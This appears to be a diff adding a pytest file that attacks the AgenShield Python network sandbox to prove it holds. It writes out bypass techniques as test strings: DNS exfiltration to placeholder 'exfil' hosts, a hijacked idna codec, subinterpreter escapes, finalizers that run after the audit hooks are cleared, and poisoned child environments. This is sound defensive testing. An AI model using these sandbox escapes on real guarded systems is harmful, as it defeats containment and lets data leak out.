@@ -1,0 +1,365 @@
+"""A determined attacker in the guarded interpreter (issue 14): each attack in a fresh interpreter.
+
+Proof is what arrived: DNS queries at a fake resolver, TCP connections and datagrams at listeners,
+all on 127.0.0.2 inside a private network namespace (netns_harness.py), or at the loopback
+listeners of conftest. Every attack also runs once with the shim disabled (or unlocked), the
+control: it must reach its target there, so a test that proves nothing fails.
+
+Classes (the issue's numbering): 4 names resolved before the audit event, 3 host names translated
+by a codec the attacker controls, 5 the .pth fallback, 6 children with a crafted environment,
+2 subinterpreters, 1 code running after CPython has cleared the audit hooks (a known gap).
+"""
+
+import json
+import shutil
+import subprocess
+import sys
+import textwrap
+from pathlib import Path
+from typing import Any, Dict, Optional
+
+import pytest
+
+from .conftest import Listener, ShimEnv, clean_env, skip_unless_local
+
+HARNESS = Path(__file__).with_name("netns_harness.py")
+
+PRELUDE = textwrap.dedent(
+    """
+    import sys
+    HOST, PORT, UPORT = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]) if len(sys.argv) > 3 else 0
+    def report(exc):
+        print("BLOCKED %s: %s" % (type(exc).__name__, exc))
+    """
+)
+
+DISABLED = {"AGENSHIELD_ENABLED": "false"}
+
+
+def _netns_ok() -> bool:
+    if not shutil.which("unshare") or not shutil.which("ip"):
+        return False
+    probe = subprocess.run(["unshare", "-n", "-m", "true"], capture_output=True)
+    return probe.returncode == 0
+
+
+def run_netns(shim: ShimEnv, tmp_path: Path, code: str, env: Optional[Dict[str, str]] = None) -> Dict[str, Any]:
+    """Run PRELUDE + code in the shim's Python inside the namespace; what reached the servers."""
+    if not _netns_ok():
+        skip_unless_local("unshare -n -m (root or user namespaces) and ip are needed for the DNS proof")
+    resolv = tmp_path / "resolv.conf"
+    resolv.write_text("nameserver 127.0.0.2\noptions timeout:1 attempts:1\n")
+    spec = tmp_path / "spec.json"
+    spec.write_text(json.dumps({"argv": [shim.python, "-c", PRELUDE + textwrap.dedent(code)],
+                                "env": clean_env(**(env or {}))}))
+    script = 'ip link set lo up && mount --bind "$1" /etc/resolv.conf && exec "$2" "$3" "$4"'
+    result = subprocess.run(
+        ["unshare", "-n", "-m", "sh", "-c", script, "sh", str(resolv), sys.executable, str(HARNESS), str(spec)],
+        capture_output=True, text=True, timeout=120,
+    )
+    assert result.returncode == 0, result.stdout + result.stderr
+    return json.loads(result.stdout.strip().splitlines()[-1])  # type: ignore[no-any-return]
+
+
+def exfil(report: Dict[str, Any]) -> list:
+    """The queries that carry the attack's marker (the resolver may also be asked for other names)."""
+    return [name for name in report["queries"] if "exfil" in name or name.endswith("in-addr.arpa")]
+
+
+def assert_nothing_arrived(report: Dict[str, Any]) -> None:
+    assert not exfil(report) and report["tcp"] == 0 and report["udp"] == 0, report
+
+
+def assert_control_arrived(report: Dict[str, Any]) -> None:
+    assert exfil(report) or report["tcp"] or report["udp"], "the attack reaches nothing even unguarded: %r" % report
+
+
+# -- class 4: names resolved before the audit event ----------------------------------------------------------------
+
+NAME_ATTACKS = {
+    "connect": "socket.socket().connect(('exfil-connect.example', PORT))",
+    "connect_ex": "print('RETURNED', socket.socket().connect_ex(('exfil-connectex.example', PORT)))",
+    "sendto": "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('exfil-sendto.example', UPORT))",
+    "sendto with flags": "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', 0, ('exfil-flags.example', UPORT))",
+    "sendmsg": "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendmsg([b'x'], [], 0, ('exfil-sendmsg.example', UPORT))",
+    "bind": "socket.socket().bind(('exfil-bind.example', 0))",
+    "ssl socket connect": "import ssl; ssl.create_default_context().wrap_socket(socket.socket(), server_hostname='x').connect(('exfil-ssl.example', PORT))",
+    "asyncio sock_connect": (
+        "import asyncio\n"
+        "async def main():\n"
+        "    s = socket.socket(); s.setblocking(False)\n"
+        "    await asyncio.get_running_loop().sock_connect(s, ('exfil-asyncio.example', PORT))\n"
+        "asyncio.run(main())"
+    ),
+    "reverse lookup of 127.x.y.z (24 bits out)": "socket.gethostbyaddr('127.1.2.3')",
+    "getnameinfo of 127.x.y.z": "socket.getnameinfo(('127.4.5.6', 80), 0)",
+    "reverse lookup of a name": "socket.gethostbyaddr('exfil-reverse.example')",
+}
+
+
+def _wrap(call: str) -> str:
+    return "import socket\ntry:\n%s\n    print('DONE')\nexcept OSError as e:\n    report(e)\n" % textwrap.indent(call, "    ")
+
+
+@pytest.mark.parametrize("attack", sorted(NAME_ATTACKS))
+def test_a_name_is_refused_before_the_resolver_runs(shim: ShimEnv, tmp_path: Path, attack: str) -> None:
+    code = _wrap(NAME_ATTACKS[attack])
+    guarded = run_netns(shim, tmp_path, code)
+    assert_nothing_arrived(guarded)
+    assert "BLOCKED NetworkBlockedError: AgenShield:" in guarded["output"], guarded
+    assert_control_arrived(run_netns(shim, tmp_path, code, DISABLED))
+
+
+def test_an_allowed_name_still_resolves_and_connects(shim: ShimEnv, tmp_path: Path) -> None:
+    code = _wrap("socket.create_connection(('exfil-allowed.example', PORT), timeout=5).close(); print('CONNECTED')\n"
+                 "socket.socket().connect(('exfil-allowed.example', PORT)); print('CONNECTED')")
+    report = run_netns(shim, tmp_path, code, {"AGENSHIELD_ALLOW": "exfil-allowed.example:{PORT}"})
+    assert report["output"].count("CONNECTED") == 2 and report["tcp"] == 2, report
+    assert set(exfil(report)) == {"exfil-allowed.example"}, report
+
+
+@pytest.mark.xfail(strict=True, reason="_socket.socket's C methods resolve a name before raising their audit event; "
+                   "only the OS layer (--sandbox netns) stops that query (README, 'Which layer stops what')")
+def test_gap_the_c_method_called_directly_resolves_first(shim: ShimEnv, tmp_path: Path) -> None:
+    code = _wrap("import _socket\n_socket.socket.connect(socket.socket(), ('exfil-unbound.example', PORT))")
+    guarded = run_netns(shim, tmp_path, code)
+    assert "BLOCKED NetworkBlockedError" in guarded["output"] and guarded["tcp"] == 0, guarded  # refused...
+    assert_nothing_arrived(guarded)  # ...but the query has left
+
+
+# -- class 3: host names translated by a codec the attacker controls ----------------------------------------------
+
+#: Plants an ``idna`` codec (before anything looked the real one up) that answers ``ANSWER``.
+FAKE_IDNA = textwrap.dedent(
+    """
+    import codecs, sys, types
+    fake = types.ModuleType("encodings.idna")
+    def encode(text, errors="strict"):
+        return ANSWER, len(text)
+    def decode(data, errors="strict"):
+        return str(data, "ascii"), len(data)
+    fake.getregentry = lambda: codecs.CodecInfo(encode, decode, name="idna")
+    sys.modules["encodings.idna"] = fake
+    class Host(str):
+        pass
+    """
+)
+
+CODEC_ATTACKS = {
+    # a str subclass holding the broker's name: the guard read "localhost", the kernel got 127.0.0.2
+    "connect, str subclass": ("b'127.0.0.2'", "socket.socket().connect((Host('localhost'), PORT))", "PORT"),
+    "C connect, str subclass": ("b'127.0.0.2'", "import _socket\n_socket.socket.connect(socket.socket(), (Host('localhost'), PORT))", "PORT"),
+    "sendto, str subclass": ("b'127.0.0.2'", "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', (Host('localhost'), UPORT))", "UPORT"),
+    # every str given to the C lookups goes through the codec: an allowed name becomes another one
+    "_socket.getaddrinfo": ("b'exfil-gai.example'", "import _socket\n_socket.getaddrinfo('localhost', 80)", None),
+    "_socket.gethostbyname": ("b'exfil-ghbn.example'", "import _socket\n_socket.gethostbyname('localhost')", None),
+    "_socket.gethostbyaddr": ("b'exfil-ghba.example'", "import _socket\n_socket.gethostbyaddr('127.0.0.1')", None),
+    "an address literal": ("b'exfil-literal.example'", "import _socket\n_socket.getaddrinfo('127.0.0.1', 80)", None),
+}
+
+
+@pytest.mark.parametrize("attack", sorted(CODEC_ATTACKS))
+def test_the_guard_judges_what_the_kernel_gets_not_what_the_codec_read(shim: ShimEnv, tmp_path: Path, attack: str) -> None:
+    answer, call, broker_port = CODEC_ATTACKS[attack]
+    code = "ANSWER = %s\n%s%s" % (answer, FAKE_IDNA, _wrap(call))
+    # the broker is localhost on the listener's port: what the guard reads ("localhost") is allowed
+    env = {"AGENSHIELD_BROKER_PORT": "{%s}" % broker_port} if broker_port else {}
+    guarded = run_netns(shim, tmp_path, code, env)
+    assert_nothing_arrived(guarded)
+    assert "BLOCKED NetworkBlockedError: AgenShield:" in guarded["output"], guarded
+    assert_control_arrived(run_netns(shim, tmp_path, code, dict(env, **DISABLED)))
+
+
+def test_the_socket_module_passes_the_exact_bytes(shim: ShimEnv, tmp_path: Path) -> None:
+    # With the codec replaced, the socket module's own lookups still resolve what the caller wrote.
+    code = "ANSWER = b'exfil-module.example'\n%s%s" % (
+        FAKE_IDNA, _wrap("print(sorted({i[4][0] for i in socket.getaddrinfo('localhost', 80)}))\n"
+                         "print(socket.gethostbyname('localhost'))\nsocket.create_connection(('localhost', 1), 1)"))
+    guarded = run_netns(shim, tmp_path, code)
+    assert_nothing_arrived(guarded)
+    assert "127.0.0.1" in guarded["output"] and "NetworkBlockedError" in guarded["output"], guarded
+    assert_control_arrived(run_netns(shim, tmp_path, code, DISABLED))
+
+
+# -- class 2: subinterpreters --------------------------------------------------------------------------------------
+
+SUBINTERPRETER_ATTACKS = {
+    "_testcapi.run_in_subinterp": "import _testcapi\n_testcapi.run_in_subinterp(CHILD)",
+    "_xxsubinterpreters / _interpreters": (
+        "m = __import__('_interpreters' if sys.version_info >= (3, 13) else '_xxsubinterpreters')\n"
+        "i = m.create()\n(m.exec if hasattr(m, 'exec') else m.run_string)(i, CHILD)"
+    ),
+    "_testcapi loaded under another name": (
+        "import importlib.util, os\n"
+        "path = [os.path.join(d, n) for d in sys.path if os.path.isdir(d) for n in os.listdir(d)\n"
+        "        if n.startswith('_testcapi.') and n.endswith('.so')][0]\n"
+        "spec = importlib.util.spec_from_file_location('evil._testcapi', path)\n"
+        "m = importlib.util.module_from_spec(spec)\nm.run_in_subinterp(CHILD)"
+    ),
+}
+
+SUB_CHILD = "import socket, sys\ntry:\n    socket.socket().connect(('127.0.0.2', %d))\nexcept OSError as e:\n    print('SUB BLOCKED', e)\n"
+
+
+@pytest.mark.parametrize("attack", sorted(SUBINTERPRETER_ATTACKS))
+def test_subinterpreters_cannot_be_created(shim: ShimEnv, tcp_listener: Listener, attack: str) -> None:
+    code = PRELUDE + "CHILD = %r %% PORT\ntry:\n%s\nexcept Exception as e:\n    report(e)\n" % (
+        SUB_CHILD, textwrap.indent(SUBINTERPRETER_ATTACKS[attack], "    "))
+    result = shim.run(code, tcp_listener.host, str(tcp_listener.port))
+    output = result.stdout + result.stderr
+    assert tcp_listener.settle() == 0, output
+    assert "BLOCKED ImportError: AgenShield:" in output and "subinterpreters" in output, output
+    control = shim.run(code, tcp_listener.host, str(tcp_listener.port), env=DISABLED)
+    if "No module named" in control.stdout + control.stderr or "IndexError" in control.stdout + control.stderr:
+        skip_unless_local("this Python has no %s" % attack)
+    assert tcp_listener.settle() >= 1, control.stdout + control.stderr
+
+
+# -- class 1: after the audit hooks are cleared (a gap) ------------------------------------------------------------
+
+TEARDOWN = textwrap.dedent(
+    """
+    import _socket, codecs, os, socket  # without socket, 3.9 crashes (SIGSEGV) in the finalizer first
+    class Finalizer:
+        def __del__(self, _socket=_socket.socket, host=HOST, port=PORT, write=os.write, base=BaseException):
+            try:
+                _socket().connect((host, port)); write(2, b"TEARDOWN CONNECTED\\n")
+            except base:
+                write(2, b"TEARDOWN BLOCKED\\n")
+    # objects CPython releases only after it has cleared the audit hooks
+    sys.addaudithook(lambda event, args, keep=Finalizer(): None)
+    codecs.register(lambda name, keep=Finalizer(): None)
+    os.register_at_fork(before=lambda keep=Finalizer(): None)
+    """
+)
+
+
+@pytest.mark.xfail(strict=True, reason="CPython clears the audit hooks before it releases codec search functions, "
+                   "at-fork callbacks and the hooks themselves; a finalizer reachable from them runs unguarded. "
+                   "Only the OS layer stops it (README, 'Which layer stops what')")
+def test_gap_finalizers_after_the_hooks_are_cleared(shim: ShimEnv, tcp_listener: Listener) -> None:
+    result = shim.run(PRELUDE + TEARDOWN, tcp_listener.host, str(tcp_listener.port))
+    assert tcp_listener.settle() == 0, result.stdout + result.stderr
+
+
+# -- class 5: the .pth fallback ------------------------------------------------------------------------------------
+
+FALLBACK_ATTACKS = {
+    "hook __code__ replaced": (
+        "import gc\nfor f in [o for o in gc.get_objects() if type(o).__name__ == 'function' and o.__name__ == 'h']:\n"
+        "    try:\n        f.__code__ = (lambda v, a, *r: None).__code__; print('REPLACED')\n"
+        "    except Exception as e: print('REFUSED', e)\n"
+    ),
+    "hook __defaults__ replaced": (
+        "import gc\nfor f in [o for o in gc.get_objects() if type(o).__name__ == 'function' and o.__name__ == 'h']:\n"
+        "    try:\n        f.__defaults__ = ('', lambda x: str, str, bytes, str, str.rpartition, Warning, None); print('REPLACED')\n"
+        "    except Exception as e: print('REFUSED', e)\n"
+    ),
+    "address type with a lying metaclass": (
+        "class Meta(type):\n    def __eq__(cls, other): return True\n    __hash__ = type.__hash__\n"
+        "class Address(tuple, metaclass=Meta): pass\n"
+        "ADDRESS = Address((HOST, PORT))\n"
+    ),
+    "builtins replaced": "import builtins\nbuiltins.type = lambda o: str\nbuiltins.ConnectionRefusedError = Warning\n",
+}
+
+
+def test_the_fallback_is_sealed(fresh_shim: ShimEnv, tcp_listener: Listener) -> None:
+    boot = fresh_shim.site_packages / "agenshield_shim" / "_boot.py"
+    shutil.rmtree(boot.parent / "__pycache__", ignore_errors=True)
+    boot.write_text("raise RuntimeError('broken on purpose')\n")
+    for attack, setup in sorted(FALLBACK_ATTACKS.items()):
+        code = PRELUDE + "import _socket\nADDRESS = (HOST, PORT)\n" + setup + textwrap.dedent(
+            """
+            _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM).close()  # Unix sockets stay allowed
+            try:
+                _socket.socket().connect(ADDRESS); print("CONNECTED")
+            except OSError as e: report(e)
+            """
+        )
+        result = fresh_shim.run(code, tcp_listener.host, str(tcp_listener.port))
+        output = result.stdout + result.stderr
+        assert tcp_listener.settle() == 0, attack + ":\n" + output
+        assert "CONNECTED" not in output and "REPLACED" not in output, attack + ":\n" + output
+        assert "AgenShield: network blocked: agenshield-shim failed to start" in output, attack + ":\n" + output
+    for call in ["__import__('socket').socket().bind(('exfil.example', 0))", "__import__('_testcapi')",
+                 "__import__('socket').socket(2, 3, 1)"]:
+        result = fresh_shim.run("try:\n    %s\n    print('DONE')\nexcept Exception as e:\n    print('REFUSED', e)\n" % call)
+        assert result.stdout.startswith("REFUSED AgenShield: network blocked"), call + ": " + result.stdout + result.stderr
+
+
+# -- class 6: children with a crafted environment, under --lock ----------------------------------------------------
+
+#: A module a child imports before ``site`` when PYTHONWARNINGS names it as a category: it makes the
+#: child's .pth believe the shim has booted already.
+EVIL_WARNING = "import sys\nsys.modules['agenshield_shim._boot'] = sys\nclass W(Warning):\n    pass\n"
+CHILD = ("import socket, sys\ntry:\n    socket.socket().connect(('127.0.0.2', int(sys.argv[1]))); print('CHILD CONNECTED')\n"
+         "except OSError as e:\n    print('CHILD BLOCKED', e)\n")
+
+SPAWN_ATTACKS = {
+    "subprocess, PYTHONWARNINGS category + PYTHONPATH": (
+        "import subprocess\nsubprocess.run([sys.executable, '-c', CHILD, str(PORT)], env=EVIL)"
+    ),
+    "subprocess, PYTHONWARNINGS only (module on the inherited path)": (
+        "import subprocess\nenv = dict(os.environ); env['PYTHONWARNINGS'] = 'ignore::evilwarn.W'\n"
+        "subprocess.run([sys.executable, '-c', CHILD, str(PORT)], env=env)"
+    ),
+    "os.posix_spawn": "os.waitpid(os.posix_spawn(sys.executable, [sys.executable, '-c', CHILD, str(PORT)], EVIL), 0)",
+    "os.execve": "sys.stdout.flush(); os.execve(sys.executable, [sys.executable, '-c', CHILD, str(PORT)], EVIL)",
+    "os.environ then a child": (
+        "os.environ['PYTHONPATH'] = EVIL['PYTHONPATH']; os.environ['PYTHONWARNINGS'] = EVIL['PYTHONWARNINGS']\n"
+        "import subprocess\nsubprocess.run([sys.executable, '-c', CHILD, str(PORT)])"
+    ),
+    "a mapping that answers twice": (
+        "import collections.abc, subprocess\n"
+        "class Env(collections.abc.Mapping):\n"
+        "    def __getitem__(self, k): return EVIL[k]\n    def __iter__(self): return iter(EVIL)\n    def __len__(self): return len(EVIL)\n"
+        "subprocess.run([sys.executable, '-c', CHILD, str(PORT)], env=Env())"
+    ),
+}
+
+
+@pytest.mark.parametrize("attack", sorted(SPAWN_ATTACKS))
+def test_locked_guard_refuses_children_with_a_weakening_environment(
+    fresh_shim: ShimEnv, tcp_listener: Listener, tmp_path: Path, attack: str
+) -> None:
+    evil = tmp_path / "evil"
+    evil.mkdir()
+    (evil / "evilwarn.py").write_text(EVIL_WARNING)
+    code = PRELUDE + "import os\nCHILD = %r\nEVIL = dict(os.environ, PYTHONPATH=%r, PYTHONWARNINGS='ignore::evilwarn.W')\n" % (
+        CHILD, str(evil)) + "try:\n%s\nexcept Exception as e:\n    report(e)\n" % textwrap.indent(SPAWN_ATTACKS[attack], "    ")
+    inherited = {"PYTHONPATH": str(evil)} if "inherited" in attack else {}
+    lock = fresh_shim.site_packages / "agenshield_shim.lock"
+    lock.write_text("AGENSHIELD_BROKER_PORT=6969\n")
+    try:
+        result = fresh_shim.run(code, tcp_listener.host, str(tcp_listener.port), env=inherited)
+    finally:
+        lock.unlink()
+    output = result.stdout + result.stderr
+    assert tcp_listener.settle() == 0, output
+    assert "BLOCKED PermissionError: AgenShield:" in output and "--lock" in output, output
+    assert "CHILD" not in output, output
+    # unlocked, the same attack gets through: the README says so
+    control = fresh_shim.run(code, tcp_listener.host, str(tcp_listener.port), env=inherited)
+    assert "CHILD CONNECTED" in control.stdout, control.stdout + control.stderr
+    assert tcp_listener.settle() >= 1
+
+
+def test_locked_guard_lets_ordinary_children_start(fresh_shim: ShimEnv, tmp_path: Path) -> None:
+    code = textwrap.dedent(
+        """
+        import os, subprocess, sys
+        child = "import sys; print('CHILD', sys.flags.ignore_environment)"
+        subprocess.run([sys.executable, "-c", child], env=dict(os.environ, FOO="1", PYTHONWARNINGS="ignore::DeprecationWarning"))
+        subprocess.run([sys.executable, "-c", child], env=dict(os.environ))  # AGENSHIELD_LOG_LEVEL, as inherited
+        subprocess.run([sys.executable, "-c", child])
+        os.environ["FOO"] = "2"
+        print("PARENT OK")
+        """
+    )
+    (fresh_shim.site_packages / "agenshield_shim.lock").write_text("AGENSHIELD_BROKER_PORT=6969\n")
+    try:
+        result = fresh_shim.run(code, env={"AGENSHIELD_LOG_LEVEL": "error"})
+    finally:
+        (fresh_shim.site_packages / "agenshield_shim.lock").unlink()
+    assert result.stdout.count("CHILD 0") == 3 and "PARENT OK" in result.stdout, result.stdout + result.stderr
